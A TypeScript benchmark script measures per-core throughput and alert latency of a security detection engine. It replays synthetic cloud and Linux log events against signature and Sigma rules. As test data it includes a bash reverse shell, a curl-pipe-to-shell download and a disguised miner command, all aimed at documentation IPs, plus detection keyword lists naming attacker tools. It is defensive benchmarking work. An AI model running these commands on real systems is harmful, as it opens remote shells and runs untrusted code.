/**
 * bench:detect — detection throughput per core (issue 8), in one process:
 *
 *  (1) a synthetic, time-ordered stream of BENCH_EVENTS (default 200,000) SecurityEvents over two days, mixed like a
 *      real estate's logs (process creation 35 %, Kubernetes audit 20 %, storage 15 %, Key Vault 10 %, APIM 10 %,
 *      SQL audit 8 %, sshd 2 %), with the field names the telemetry parsers produce and a few attacks sprinkled in;
 *  (2) the baseline: the time to iterate the same events and read two fields of each;
 *  (3) stateless: the catalog's signature and threat-intel detections (stateful ones disabled) plus synthetic Sigma
 *      rules in SigmaHQ's process-creation and Kubernetes-audit shapes, for about 150 stateless rules in all;
 *  (4) all detectors: the whole catalog (thresholds, sequences, first-seen and volume baselines) plus the same
 *      synthetic rules, with checkpoints to an in-memory SQLite store every 10,000 events.
 *
 * Each mode runs BENCH_RUNS times (default 3) after a warm-up; the median is reported. CPU time comes from
 * process.cpuUsage, so events per second per core hold on a loaded machine. Ratios are against the baseline. The
 * goals: ≥ 50,000 events/s per core stateless, ≥ 10,000 with all detectors on. Detection latency: the processing time
 * of the events that raised or merged an alert (p50 / p99), i.e. the delay streaming adds before an alert exists.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DEFAULT_CATALOG_DIR } from '../catalog/index.js';
import { DetectionEngine, loadDetectionCatalog, resolveConfig, type EventFieldValue, type SecurityEvent, type TelemetrySource } from '../protection/index.js';
import { openStore } from '../store/index.js';
import { cpuSeconds, fmt, line } from './policy-scan.js';

const EVENTS = Number(process.env.BENCH_EVENTS ?? 200_000);
const RUNS = Number(process.env.BENCH_RUNS ?? 3);
const SYNTHETIC_RULES = Number(process.env.BENCH_SYNTHETIC_RULES ?? 110);
const GOAL_STATELESS = 50_000;
const GOAL_ALL = 10_000;

/** mulberry32: a small deterministic PRNG. */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const SUBS = ['11111111-1111-1111-1111-111111111111', '22222222-2222-2222-2222-222222222222', '33333333-3333-3333-3333-333333333333'];
const ids = (n: number, make: (sub: string, i: number) => string) => Array.from({ length: n }, (_, i) => make(SUBS[i % SUBS.length], i));
const RESOURCES = {
  vm: ids(50, (s, i) => `/subscriptions/${s}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/vm-${i}`),
  aks: ids(5, (s, i) => `/subscriptions/${s}/resourceGroups/rg-aks/providers/Microsoft.ContainerService/managedClusters/aks-${i}`),
  storage: ids(20, (s, i) => `/subscriptions/${s}/resourceGroups/rg-data/providers/Microsoft.Storage/storageAccounts/st${i}`),
  vault: ids(20, (s, i) => `/subscriptions/${s}/resourceGroups/rg-sec/providers/Microsoft.KeyVault/vaults/kv-${i}`),
  sql: ids(10, (s, i) => `/subscriptions/${s}/resourceGroups/rg-data/providers/Microsoft.Sql/servers/sql-${i}/databases/db`),
  apim: ids(5, (s, i) => `/subscriptions/${s}/resourceGroups/rg-api/providers/Microsoft.ApiManagement/service/apim-${i}`),
};

const BENIGN_COMMANDS = [
  ['/usr/bin/ls', 'ls -la /var/www/html'],
  ['/usr/bin/cat', 'cat /etc/os-release'],
  ['/usr/bin/grep', 'grep -r TODO /srv/app/src'],
  ['/usr/bin/systemctl', 'systemctl status nginx'],
  ['/usr/bin/python3', 'python3 /srv/app/manage.py migrate'],
  ['/usr/bin/node', 'node /srv/api/server.js --port 8080'],
  ['/usr/bin/apt-get', 'apt-get install -y --no-install-recommends ca-certificates'],
  ['/usr/bin/curl', 'curl -s https://api.contoso.example/health'],
  ['/usr/bin/tar', 'tar -czf /backup/www.tgz /var/www'],
  ['/usr/sbin/logrotate', 'logrotate /etc/logrotate.conf'],
  ['/usr/bin/ps', 'ps aux'],
  ['/usr/bin/find', 'find /tmp -type f -mtime +7 -delete'],
  ['/usr/bin/git', 'git -C /srv/app pull --ff-only'],
  ['/usr/bin/docker', 'docker ps --format {{.Names}}'],
  ['/usr/bin/bash', 'bash /opt/scripts/nightly.sh'],
];
const ATTACK_COMMANDS = [
  ['/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/203.0.113.10/4444 0>&1'],
  ['/tmp/.x/kswapd0', '/tmp/.x/kswapd0 -o stratum+tcp://pool.example.net:3333 --donate-level=0'],
  ['/usr/bin/sh', 'sh -c curl -fsSL http://203.0.113.10/x.sh | sh'],
];
const TOR = ['204.8.96.141', '204.137.14.106'];

function events(n: number): SecurityEvent[] {
  const rnd = prng(8);
  const pick = <T>(xs: readonly T[]) => xs[Math.floor(rnd() * xs.length)];
  const out: SecurityEvent[] = [];
  const start = Date.parse('2026-08-01T00:00:00Z');
  const step = (2 * 86_400_000) / n;
  const make = (source: TelemetrySource, resourceId: string, time: number, operation: string, rest: Partial<SecurityEvent>, fields: Record<string, EventFieldValue>): SecurityEvent => ({
    source,
    resourceId,
    subscriptionId: resourceId.split('/')[2],
    time,
    operation,
    outcome: 'success',
    ...rest,
    fields,
    origin: { file: 'bench', line: out.length + 1 },
  });
  for (let i = 0; i < n; i++) {
    const t = Math.round(start + i * step);
    const r = rnd();
    const attack = rnd() < 0.0005;
    if (r < 0.35) {
      const [image, cmd] = attack ? pick(ATTACK_COMMANDS) : pick(BENIGN_COMMANDS);
      const res = rnd() < 0.8 ? pick(RESOURCES.vm) : pick(RESOURCES.aks);
      out.push(make('processEvent', res, t, 'execve', { principal: 'www-data' }, { Image: image, CommandLine: cmd, User: 'www-data', Computer: 'web', CurrentDirectory: '/var/www', ParentImage: '/usr/bin/bash', ParentCommandLine: 'bash', ProcessId: 1000 + (i % 30_000), ParentProcessId: 999 }));
    } else if (r < 0.55) {
      const sa = `system:serviceaccount:app-${i % 7}:worker`;
      const resource = pick(['pods', 'configmaps', 'secrets', 'services', 'endpoints', 'leases']);
      const verb = pick(['get', 'list', 'watch', 'update']);
      out.push(
        make('kubernetesAudit', pick(RESOURCES.aks), t, verb, { callerIp: '10.244.0.12', principal: sa, userAgent: 'kube-controller/1.29' }, {
          kind: 'Event',
          apiVersion: 'audit.k8s.io/v1',
          level: 'Metadata',
          stage: 'ResponseComplete',
          verb,
          requestURI: `/api/v1/namespaces/app/${resource}`,
          'user.username': sa,
          'user.groups[]': ['system:serviceaccounts', 'system:authenticated'],
          'sourceIPs[]': [attack ? pick(TOR) : '10.244.0.12'],
          userAgent: 'kube-controller/1.29',
          'objectRef.resource': resource,
          'objectRef.namespace': `app-${i % 7}`,
          'objectRef.apiVersion': 'v1',
          'responseStatus.code': 200,
          'annotations.authorization.k8s.io/decision': 'allow',
          requestReceivedTimestamp: new Date(t).toISOString(),
        }),
      );
    } else if (r < 0.7) {
      const op = pick(['GetBlob', 'GetBlob', 'PutBlob', 'ListBlobs', 'GetBlobProperties']);
      out.push(
        make('storageBlob', pick(RESOURCES.storage), t, op, { callerIp: attack ? pick(TOR) : `10.2.${i % 4}.5`, userAgent: 'azsdk-python-storage-blob/12.19.0', principal: 'app@contoso.example' }, {
          OperationName: op,
          StatusCode: 200,
          AuthenticationType: 'OAuth',
          ObjectKey: `/st/data/file-${i % 500}.csv`,
          ContainerName: 'data',
          BlobName: `file-${i % 500}.csv`,
          ResponseBodySize: 20_000,
          UserAgentHeader: 'azsdk-python-storage-blob/12.19.0',
          ...(op === 'PutBlob' ? { RequestMd5: 'AAAAAAAAAAAAAAAAAAAAAA==' } : {}),
        }),
      );
    } else if (r < 0.8) {
      const op = pick(['SecretGet', 'SecretGet', 'KeyGet', 'VaultGet']);
      out.push(
        make('keyVault', pick(RESOURCES.vault), t, op, { callerIp: attack ? pick(TOR) : '10.1.0.4', principal: `svc-${i % 5}@contoso.example`, userAgent: 'azsdk-net-Security.KeyVault.Secrets/4.6.0' }, {
          OperationName: op,
          HttpStatusCode: 200,
          IdentityUpn: `svc-${i % 5}@contoso.example`,
          IdentityAppId: `0a0a0a0a-0000-0000-0000-00000000000${i % 5}`,
          ObjectType: 'secrets',
          ObjectName: `secret-${i % 9}`,
        }),
      );
    } else if (r < 0.9) {
      out.push(
        make('apim', pick(RESOURCES.apim), t, 'GET', { callerIp: attack ? pick(TOR) : `52.20.${i % 50}.9`, userAgent: 'Mozilla/5.0', principal: 'sub-1' }, {
          Method: 'GET',
          Url: `https://api.contoso.example/orders/v1/orders/${i % 2000}`,
          UrlPath: `/orders/v1/orders/${i % 2000}`,
          ApiId: 'orders-api',
          OperationId: 'get-order',
          ResponseCode: 200,
          ResponseSize: 900,
          RequestSize: 400,
        }),
      );
    } else if (r < 0.98) {
      const op = pick(['BATCH_COMPLETED', 'BATCH_COMPLETED', 'DATABASE_AUTHENTICATION_SUCCEEDED', 'RPC_COMPLETED']);
      out.push(
        make('sqlAudit', pick(RESOURCES.sql), t, op, { callerIp: '10.3.0.7', principal: 'webapp', userAgent: 'Core Microsoft SqlClient Data Provider' }, {
          action_name: op,
          server_principal_name: 'webapp',
          application_name: 'Core Microsoft SqlClient Data Provider',
          host_name: 'web-01.corp.contoso.example',
          statement: op.includes('COMPLETED') ? `SELECT * FROM Orders WHERE Id = @p0 -- ${i % 100}` : '',
          additional_information: '',
          affected_rows: 1,
        }),
      );
    } else {
      const failed = rnd() < 0.7;
      out.push(
        make('sshAuth', pick(RESOURCES.vm), t, failed ? 'sshd.failed' : 'sshd.accepted', { outcome: failed ? 'failure' : 'success', callerIp: `198.18.${i % 20}.${i % 7}`, principal: 'azureuser' }, {
          Host: 'web',
          Method: 'password',
          User: 'azureuser',
        }),
      );
    }
  }
  return out;
}

/** Synthetic Sigma rules shaped like SigmaHQ's Linux process-creation and Kubernetes-audit rules. */
function syntheticSigma(dir: string, count: number): void {
  const rnd = prng(42);
  const words = ['nmap', 'masscan', 'hydra', 'john', 'hashcat', 'socat', 'tcpdump', 'chattr', 'setcap', 'insmod', 'modprobe', 'iptables', 'ufw', 'crontab', 'at', 'nohup', 'base64', 'openssl', 'xxd', 'shred', 'wipe', 'dd', 'mkfifo', 'telnet', 'ftp', 'tftp', 'scp', 'rsync', 'ssh-keygen', 'passwd', 'useradd', 'usermod', 'visudo', 'sudo', 'su', 'pkexec', 'gdb', 'strace', 'ltrace', 'perl', 'ruby', 'lua', 'php', 'awk', 'sed', 'vim', 'find', 'tar', 'zip'];
  const pick = () => words[Math.floor(rnd() * words.length)];
  const docs: string[] = [];
  for (let i = 0; i < count; i++) {
    const id = `b0000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
    const kube = i % 11 === 10;
    if (kube) {
      docs.push(
        `title: Synthetic k8s ${i}\nid: ${id}\nlogsource:\n    product: kubernetes\n    service: audit\ndetection:\n    selection:\n        verb: [create, patch]\n        objectRef.resource: ['${pick()}s', '${pick()}s']\n    filter:\n        user.username|startswith: 'system:'\n    condition: selection and not filter\nlevel: low\n`,
      );
      continue;
    }
    const re = i % 9 === 0;
    docs.push(
      [
        `title: Synthetic process rule ${i}`,
        `id: ${id}`,
        'logsource:\n    product: linux\n    category: process_creation',
        'detection:',
        `    selection_img:\n        Image|endswith: ['/${pick()}', '/${pick()}', '/${pick()}']`,
        re ? `    selection_cli:\n        CommandLine|re: '${pick()}\\s+-[a-z]*${pick()[0]}'` : `    selection_cli:\n        CommandLine|contains: [' -${pick()[0]} ', '${pick()}', '--${pick()}', '/${pick()}/']`,
        `    filter_parent:\n        ParentImage|startswith: ['/usr/lib/${pick()}', '/opt/${pick()}']`,
        '    condition: all of selection_* and not 1 of filter_*',
        'level: medium',
        '',
      ].join('\n'),
    );
  }
  writeFileSync(join(dir, 'synthetic.yml'), docs.join('---\n'));
}

function median(xs: number[]): number {
  const s = [...xs].sort((a, b) => a - b);
  return s[Math.floor(s.length / 2)];
}

async function measure(label: string, stream: SecurityEvent[], disabled: string[], sigmaDir: string) {
  const catalog = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { config: resolveConfig({ disabled }), sigmaPaths: [sigmaDir], strict: true });
  const cpu: number[] = [];
  const wall: number[] = [];
  let alerts = 0;
  const latencies: number[] = [];
  for (let run = 0; run <= RUNS; run++) {
    const store = await openStore(':memory:');
    const engine = await DetectionEngine.open({ catalog, store, plans: () => ({ tier: 'Standard' }), checkpointEvery: 10_000 });
    globalThis.gc?.();
    const c0 = process.cpuUsage();
    const w0 = process.hrtime.bigint();
    let n = 0;
    for (const e of stream) {
      const t = process.hrtime.bigint();
      const changes = engine.process(e);
      if (changes.length > 0 && run === RUNS) latencies.push(Number(process.hrtime.bigint() - t) / 1000);
      if (++n % 10_000 === 0) await engine.checkpoint();
    }
    await engine.close();
    const c = cpuSeconds(c0);
    const w = Number(process.hrtime.bigint() - w0) / 1e9;
    if (run > 0) {
      cpu.push(c);
      wall.push(w);
    }
    alerts = engine.stats.alertsCreated;
    await store.close();
  }
  latencies.sort((a, b) => a - b);
  return { label, cpu: median(cpu), wall: median(wall), definitions: catalog.definitions.length, units: catalog.units.length, alerts, latencies };
}

async function main(): Promise<void> {
  console.log(`bench:detect — ${fmt(EVENTS)} events, ${RUNS} runs per mode (median), Node ${process.version}`);
  const stream = events(EVENTS);
  const bySource: Record<string, number> = {};
  for (const e of stream) bySource[e.source] = (bySource[e.source] ?? 0) + 1;
  line('events by source', Object.entries(bySource).map(([k, v]) => `${k} ${fmt(v)}`).join(', '));

  // baseline: iterate and read two fields of each event
  const base: number[] = [];
  for (let run = 0; run <= RUNS; run++) {
    const c0 = process.cpuUsage();
    let sink = 0;
    for (const e of stream) sink += e.time + (e.fields.CommandLine === undefined ? 0 : 1);
    if (sink === 42) console.log('');
    if (run > 0) base.push(cpuSeconds(c0));
  }
  const baseline = Math.max(median(base), 1e-6);
  line('baseline (iterate, read two fields)', `${(baseline * 1000).toFixed(1)} ms CPU, ${fmt(EVENTS / baseline)} events/s`);

  const dir = mkdtempSync(join(tmpdir(), 'bench-detect-'));
  try {
    syntheticSigma(dir, SYNTHETIC_RULES);
    const full = loadDetectionCatalog(DEFAULT_CATALOG_DIR, { strict: true });
    const statefulIds = full.definitions.filter((d) => !['signature', 'ti-match'].includes(d.kind)).map((d) => d.id);
    const modes = [await measure('stateless (signatures + TI)', stream, statefulIds, dir), await measure('all detectors', stream, [], dir)];
    for (const m of modes) {
      const perCore = EVENTS / m.cpu;
      console.log('');
      line(m.label, `${m.units} compiled rules (${SYNTHETIC_RULES} of them synthetic Sigma rules), ${m.definitions} alert definitions`);
      line('  CPU time / wall time', `${m.cpu.toFixed(2)} s / ${m.wall.toFixed(2)} s`);
      line('  events/s per core (CPU time)', fmt(perCore));
      line('  ratio to baseline (CPU time)', `${(m.cpu / baseline).toFixed(1)}×`);
      line('  alerts created', fmt(m.alerts));
      if (m.latencies.length > 0) {
        const p = (q: number) => m.latencies[Math.min(m.latencies.length - 1, Math.floor(m.latencies.length * q))];
        line('  detection latency (alerting events)', `p50 ${p(0.5).toFixed(0)} µs, p99 ${p(0.99).toFixed(0)} µs, max ${m.latencies[m.latencies.length - 1].toFixed(0)} µs`);
      }
    }
    console.log('');
    const [stateless, all] = modes;
    const s = EVENTS / stateless.cpu;
    const a = EVENTS / all.cpu;
    line(`goal stateless ≥ ${fmt(GOAL_STATELESS)}/s/core`, `${fmt(s)} ${s >= GOAL_STATELESS ? 'MET' : 'NOT MET'}`);
    line(`goal all detectors ≥ ${fmt(GOAL_ALL)}/s/core`, `${fmt(a)} ${a >= GOAL_ALL ? 'MET' : 'NOT MET'}`);
    line('peak RSS', `${fmt(process.resourceUsage().maxRSS / 1024)} MB`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

main().catch((e) => {
  console.error(e);
  process.exit(1);
});
